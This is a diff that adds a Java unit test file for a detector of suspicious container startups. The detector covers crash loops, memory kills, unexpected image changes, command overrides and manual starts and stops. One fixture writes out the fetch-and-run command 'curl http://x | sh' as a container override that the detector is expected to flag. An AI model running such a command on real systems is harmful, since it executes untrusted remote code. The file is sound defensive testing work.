@@ -1,0 +1,372 @@
+package org.ephemera.analyze.startup;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.ephemera.analyze.startup.Stage.USER;
+import static org.ephemera.analyze.startup.Stage.container;
+import static org.ephemera.analyze.startup.Stage.event;
+
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Optional;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.function.Consumer;
+import java.util.stream.Collectors;
+import java.util.stream.Stream;
+import org.ephemera.analyze.model.Rule;
+import org.ephemera.analyze.model.RuleBook;
+import org.ephemera.analyze.testing.FixtureCalls;
+import org.ephemera.analyze.testing.SealedFixture;
+import org.ephemera.bag.Trigger;
+import org.ephemera.evidence.Digest;
+import org.ephemera.testing.InMemory;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class StartupRulesTest {
+    private static final String OWNED =
+            "{\"metadata\":{\"namespace\":\"shop\",\"name\":\"web-1\",\"creationTimestamp\":"
+                    + "\"2026-11-26T11:00:00Z\",\"ownerReferences\":[{\"kind\":\"ReplicaSet\",\"name\":\"web\"}]},\"status\":";
+    private static final String OTHER = "arn:aws:sts::111122223333:assumed-role/web-deploy/ci";
+    private static final String RESTART = "containerGroups/restart/action";
+    private static final String WRITE = "containerGroups/write";
+
+    @TempDir(factory = InMemory.class)
+    Path folder;
+
+    /** What happened, and the findings that must come of it: no others. */
+    record Case(String name, Consumer<Stage> happened, List<String> expected) {
+        @Override
+        public String toString() {
+            return name;
+        }
+    }
+
+    private static Case found(String name, String expected, Consumer<Stage> happened) {
+        return new Case(name, happened, List.of(expected.split(", ", -1)));
+    }
+
+    private static Case silent(String name, Consumer<Stage> happened) {
+        return new Case(name, happened, List.of());
+    }
+
+    private static String digest(String text) {
+        return "sha256:"
+                + Digest.of(text.getBytes(java.nio.charset.StandardCharsets.UTF_8))
+                        .hex();
+    }
+
+    private static void crashes(Stage stage, double... minutes) {
+        for (double minute : minutes) {
+            stage.stopped(minute - 2, minute, "EssentialContainerExited", 1);
+        }
+    }
+
+    private static ObjectNode overridden(Stage stage, String overrides) {
+        stage.definition();
+        ObjectNode task = stage.task(0);
+        task.set("overrides", FixtureCalls.json(overrides));
+        return task;
+    }
+
+    private static String command(String value) {
+        return "{\"containerOverrides\":[{\"name\":\"app\",\"command\":[\"" + value + "\"]}]}";
+    }
+
+    private static void killed(Stage stage, String container, double minute) {
+        ObjectNode view = stage.view(container, 1);
+        event(view, "Pulled", -300, -300, "pulled");
+        event(view, "Started", -299, minute + 1, "started");
+        event(view, "Killing", minute, minute, "Killing container");
+    }
+
+    static Stream<Case> crashes() {
+        return Stream.of(
+                found("three crashes in a quarter", "STA-001 medium", s -> crashes(s, 5, 10, 15)),
+                found("three crashes after a deployment", "STA-001 low", s -> {
+                    s.aws(-10, OTHER, "ecs:UpdateService", "{}");
+                    crashes(s, 5, 10, 15);
+                }),
+                silent("three crashes in an hour", s -> crashes(s, 5, 30, 55)),
+                silent("one crash", s -> crashes(s, 5)),
+                found(
+                        "six restarts of a group",
+                        "STA-001 medium",
+                        s -> event(event(s.view("app", 6), "Pulled", 0, 0, "pulled"), "Started", 0, 20, "started")),
+                found(
+                        "three restarts in a month",
+                        "STA-001 low",
+                        s -> event(event(s.view("app", 3), "Pulled", 0, 0, "pulled"), "Started", -40000, 0, "started")),
+                silent(
+                        "two restarts",
+                        s -> event(event(s.view("app", 2), "Pulled", 0, 0, "pulled"), "Started", 0, 20, "started")),
+                found(
+                        "a pod that is made to wait and wants memory",
+                        "STA-001 medium, STA-002 medium",
+                        s -> s.pod(
+                                OWNED
+                                        + "{\"containerStatuses\":[{\"name\":\"app\",\"restartCount\":6,\"state\":{\"waiting\":{\"reason\":"
+                                        + "\"CrashLoopBackOff\"}},\"lastState\":{\"terminated\":{\"exitCode\":137,\"reason\":\"OOMKilled\"}}}]}}")),
+                found(
+                        "a task that wants memory",
+                        "STA-002 medium",
+                        s -> container(s.stopped(0, 30, "EssentialContainerExited", 137))
+                                .put("reason", "OutOfMemoryError: Container killed due to memory usage")),
+                found("137 and nothing else", "STA-002 low", s -> s.stopped(0, 30, "EssentialContainerExited", 137)),
+                found("137 by the scheduler", "STA-008 info", s -> s.stopped(0, 30, "ServiceSchedulerInitiated", 137)),
+                found("three short runs", "STA-007 low", s -> jobs(s, 0, 0.7, 3)),
+                silent("two short runs", s -> jobs(s, 0, 0.7, 2)),
+                silent("three longer runs", s -> jobs(s, 0, 20, 3)),
+                found("three short runs that fail", "STA-001 medium", s -> jobs(s, 1, 0.7, 3)));
+    }
+
+    private static void jobs(Stage stage, int exit, double minutes, int count) {
+        for (int i = 0; i < count; i++) {
+            stage.stopped(i, i + minutes, "EssentialContainerExited", exit).put("group", "family:job");
+        }
+    }
+
+    static Stream<Case> starts() {
+        return Stream.of(
+                found("another image without a deployment", "STA-003 medium", s -> {
+                    container(s.task(0)).put("imageDigest", digest("a"));
+                    container(s.task(90)).put("imageDigest", digest("b"));
+                }),
+                silent("another image after a deployment", s -> {
+                    container(s.task(0)).put("imageDigest", digest("a"));
+                    s.aws(80, OTHER, "ecs:UpdateService", "{}");
+                    container(s.task(90)).put("imageDigest", digest("b"));
+                }),
+                silent("another image of another revision", s -> {
+                    container(s.task(0)).put("imageDigest", digest("a"));
+                    container(s.task(90).put("taskDefinitionArn", "app:8")).put("imageDigest", digest("b"));
+                }),
+                silent("the same image again", s -> {
+                    container(s.task(0)).put("imageDigest", digest("a"));
+                    container(s.task(90)).put("imageDigest", digest("a"));
+                }),
+                found("a group pulls another image", "STA-003 medium", s -> pulls(s)),
+                silent("a group is written anew and pulls another image", s -> {
+                    s.azure(50, "deploy@shop.example", WRITE);
+                    pulls(s);
+                }),
+                found("another command", "STA-004 high", s -> overridden(s, command("curl http://x | sh"))),
+                silent("the command of the definition", s -> overridden(s, command("serve"))),
+                silent(
+                        "names and sizes only",
+                        s -> overridden(
+                                s, "{\"containerOverrides\":[{\"name\":\"app\",\"cpu\":512}],\"cpu\":\"512\"}")),
+                found(
+                        "another variable",
+                        "STA-004 high",
+                        s -> overridden(
+                                s,
+                                "{\"containerOverrides\":[{\"name\":\"app\",\"environment\":[{\"name\":\"POOL\",\"value\":\"x\"}]}]}")),
+                silent(
+                        "the variable of the definition",
+                        s -> overridden(
+                                s,
+                                "{\"containerOverrides\":[{\"name\":\"app\",\"environment\":[{\"name\":\"MODE\",\"value\":\"fast\"}]}]}")),
+                silent(
+                        "GuardDuty's agent",
+                        s -> overridden(
+                                s,
+                                "{\"containerOverrides\":[{\"name\":\"aws-guardduty-agent-k7q2m\","
+                                        + "\"environment\":[{\"name\":\"REGION\",\"value\":\"x\"}]}]}")),
+                found(
+                        "another role",
+                        "STA-004 high",
+                        s -> overridden(s, "{\"taskRoleArn\":\"arn:aws:iam::111122223333:role/admin\"}")),
+                found(
+                        "a schedule's command",
+                        "STA-004 medium, STA-005 low",
+                        s -> overridden(s, command("report"))
+                                .put("startedBy", "events-rule/nightly")
+                                .put("group", "family:report")),
+                found("a call with a command, its task gone", "STA-004 high", s -> {
+                    s.task(0);
+                    s.aws(0, USER, "ecs:RunTask", "{\"overrides\":" + command("sh") + "}");
+                }),
+                silent("a call without overrides", s -> {
+                    s.task(0);
+                    s.aws(0, USER, "ecs:RunTask", "{\"overrides\":{\"containerOverrides\":[]}}");
+                }),
+                found(
+                        "by hand",
+                        "STA-005 medium",
+                        s -> s.task(0).put("startedBy", "me").put("group", "family:app")),
+                found(
+                        "by hand, and says it is of a service",
+                        "STA-005 medium",
+                        s -> s.task(0).put("startedBy", "me")),
+                found(
+                        "by a schedule",
+                        "STA-005 low",
+                        s -> s.task(0).put("startedBy", "chronos-schedule/x").put("group", "family:app")),
+                silent("by the service", s -> s.task(0)),
+                found(
+                        "a naked pod",
+                        "STA-005 medium",
+                        s -> s.pod("{\"metadata\":{\"namespace\":\"shop\",\"name\":\"x\"}}")),
+                silent("a pod of a ReplicaSet", s -> s.pod(OWNED + "{}}")),
+                silent(
+                        "a pod of its node",
+                        s -> s.pod("{\"metadata\":{\"namespace\":\"kube-system\",\"name\":\"x\","
+                                + "\"annotations\":{\"kubernetes.io/config.mirror\":\"1\"}}}")),
+                found("as large as can be", "STA-006 medium", s -> s.task(0).put("cpu", "16384")),
+                silent("half as large", s -> s.task(0).put("cpu", "8192")),
+                found("by a long-term key", "STA-006 medium", s -> {
+                    s.task(0);
+                    ((ObjectNode) s.aws(0, USER, "ecs:RunTask", "{}").path("userIdentity"))
+                            .put("accessKeyId", "AKIAEXAMPLE");
+                }),
+                silent("by a role", s -> {
+                    s.task(0);
+                    ((ObjectNode) s.aws(0, OTHER, "ecs:RunTask", "{}").path("userIdentity"))
+                            .put("accessKeyId", "ASIAEXAMPLE");
+                }),
+                found("by somebody new", "STA-006 medium", s -> {
+                    s.task(0);
+                    s.aws(-300, OTHER, "ecs:RunTask", "{}");
+                    s.aws(0, USER, "ecs:RunTask", "{}");
+                }),
+                silent("by whom it always was", s -> {
+                    s.task(0);
+                    s.aws(-300, OTHER, "ecs:RunTask", "{}");
+                    s.aws(0, OTHER, "ecs:RunTask", "{}");
+                }));
+    }
+
+    private static void pulls(Stage stage) {
+        ObjectNode view = stage.view("app", 1);
+        event(view, "Pulled", 0, 0, "Successfully pulled image \"r.azurecr.io/app@" + digest("a") + "\"");
+        event(view, "Pulled", 52, 52, "Successfully pulled image \"r.azurecr.io/app@" + digest("b") + "\"");
+        event(view, "Started", 1, 53, "started");
+    }
+
+    static Stream<Case> ends() {
+        return Stream.of(
+                found("by a user", "STA-008 medium", s -> s.stopped(0, 70, "UserInitiated", 137)),
+                found("by Spot", "STA-008 info", s -> s.stopped(0, 70, "SpotInterruption", 137)),
+                found(
+                        "by maintenance",
+                        "STA-008 info",
+                        s -> s.stopped(0, 70, "UserInitiated", 143)
+                                .put(
+                                        "stoppedReason",
+                                        "ECS is performing maintenance on the underlying infrastructure")),
+                silent("by itself", s -> s.stopped(0, 70, "EssentialContainerExited", 1)),
+                found("a group restarted", "STA-008 medium", s -> {
+                    event(event(s.view("app", 1), "Pulled", 0, 0, "p"), "Started", 0, 0, "s");
+                    s.azure(70, "ops@shop.example", RESTART);
+                }),
+                found("a pod deleted by a person", "STA-008 medium", s -> {
+                    s.pod(OWNED + "{}}");
+                    s.kubernetes("jane", "delete", "pods");
+                }),
+                silent("a pod deleted by its controller", s -> {
+                    s.pod(OWNED + "{}}");
+                    s.kubernetes("system:serviceaccount:kube-system:replicaset-controller", "delete", "pods");
+                }),
+                found(
+                        "pulled and never started",
+                        "STA-009 medium",
+                        s -> event(s.view("app", 0), "Pulled", 0, 0, "pulled")),
+                silent(
+                        "pulled, and could not start",
+                        s -> event(event(s.view("app", 0), "Pulled", 0, 0, "pulled"), "Failed", 1, 1, "failed")),
+                found("killed, and nobody asked", "STA-009 medium", s -> {
+                    killed(s, "app", 40);
+                    s.azure(-300, "ops@shop.example", WRITE);
+                }),
+                found("killed by a restart", "STA-008 medium", s -> {
+                    killed(s, "app", 40);
+                    s.azure(39.9, "ops@shop.example", RESTART);
+                }),
+                silent("killed for being ill", s -> {
+                    killed(s, "app", 40);
+                    event((ObjectNode) s.groupView(0), "Unhealthy", 39, 39, "Liveness probe failed");
+                    s.azure(-300, "ops@shop.example", WRITE);
+                }),
+                found("all killed, as by a renewed host", "STA-009 info, STA-009 info", s -> {
+                    killed(s, "app", 40);
+                    killed(s, "agent", 40);
+                    s.azure(-300, "ops@shop.example", WRITE);
+                }));
+    }
+
+    static Stream<Case> cases() {
+        return Stream.of(crashes(), starts(), ends()).flatMap(cases -> cases);
+    }
+
+    @ParameterizedTest
+    @MethodSource("cases")
+    void judges(Case one) {
+        Stage stage = new Stage();
+        one.happened().accept(stage);
+        assertThat(Stage.shown(stage.judge(folder).findings())).isEqualTo(one.expected());
+    }
+
+    @Test
+    void whoStoppedItIsNamedAndThatItWasAfterTheAlert() {
+        Stage stage = new Stage();
+        stage.stopped(0, 70, "UserInitiated", 137).put("taskArn", SealedFixture.TASK);
+        stage.aws(69, USER, "ecs:StopTask", "{\"task\":\"" + SealedFixture.TASK + "\"}");
+        StartupRules.Result result = stage.judge(folder);
+        assertThat(result.findings().getFirst().because()).contains("stopped by " + USER + ", after the alert");
+        assertThat(result.gaps().toString()).doesNotContain("STA-008");
+    }
+
+    @Test
+    void whoStoppedItIsAGapIfNoCallSaysSo() {
+        Stage stage = new Stage();
+        stage.stopped(0, 50, "UserInitiated", 137);
+        StartupRules.Result result = stage.judge(folder);
+        assertThat(result.findings().getFirst().because()).doesNotContain("after the alert");
+        assertThat(result.gaps().toString()).contains("STA-008", "no StopTask");
+    }
+
+    @Test
+    void aKillIsNotJudgedWithoutTheActivityLog() {
+        Stage stage = new Stage();
+        killed(stage, "app", 40);
+        StartupRules.Result result = stage.judge(folder);
+        assertThat(result.findings()).isEmpty();
+        assertThat(result.gaps().toString()).contains("STA-009", "activity log was not read");
+    }
+
+    @Test
+    void aTaskThatIsGoneIsReadFromTheAlert() {
+        String event = "{\"detail-type\":\"ECS Task State Change\",\"detail\":{\"taskArn\":\"" + SealedFixture.TASK
+                + "\",\"group\":\"service:web\",\"startedBy\":\"ecs-svc/1\",\"stopCode\":\"EssentialContainerExited\","
+                + "\"stoppedAt\":\"2026-11-26T12:00:00.123Z\",\"containers\":[{\"name\":\"app\",\"exitCode\":137,"
+                + "\"reason\":\"OutOfMemoryError: killed\"}],\"overrides\":{\"containerOverrides\":[{\"name\":\"app\","
+                + "\"command\":[\"sh\"]}]}}}";
+        SealedFixture fixture = SealedFixture.in(folder)
+                .trigger(new Trigger(Trigger.Kind.ALERT, "aws.ecs", "e-1", Optional.empty()), event);
+        StartupRules.Result result = new Stage().judge(fixture);
+        assertThat(Stage.shown(result.findings())).containsExactly("STA-002 medium", "STA-004 high");
+        assertThat(result.findings().getFirst().evidence().getFirst().place())
+                .hasToString("/detail/overrides/containerOverrides/0/command");
+    }
+
+    @Test
+    void nothingReadIsAGap() {
+        assertThat(new Stage().judge(folder).gaps().toString()).contains("nothing in the package tells");
+    }
+
+    @Test
+    void everyRuleHasAPositiveCase() {
+        Set<String> seen = cases().flatMap(one -> one.expected().stream())
+                .map(expected -> expected.substring(0, 7))
+                .collect(Collectors.toCollection(TreeSet::new));
+        assertThat(seen)
+                .isEqualTo(RuleBook.standard().all().stream()
+                        .map(Rule::id)
+                        .filter(id -> id.startsWith("STA-"))
+                        .collect(Collectors.toCollection(TreeSet::new)));
+    }
+}
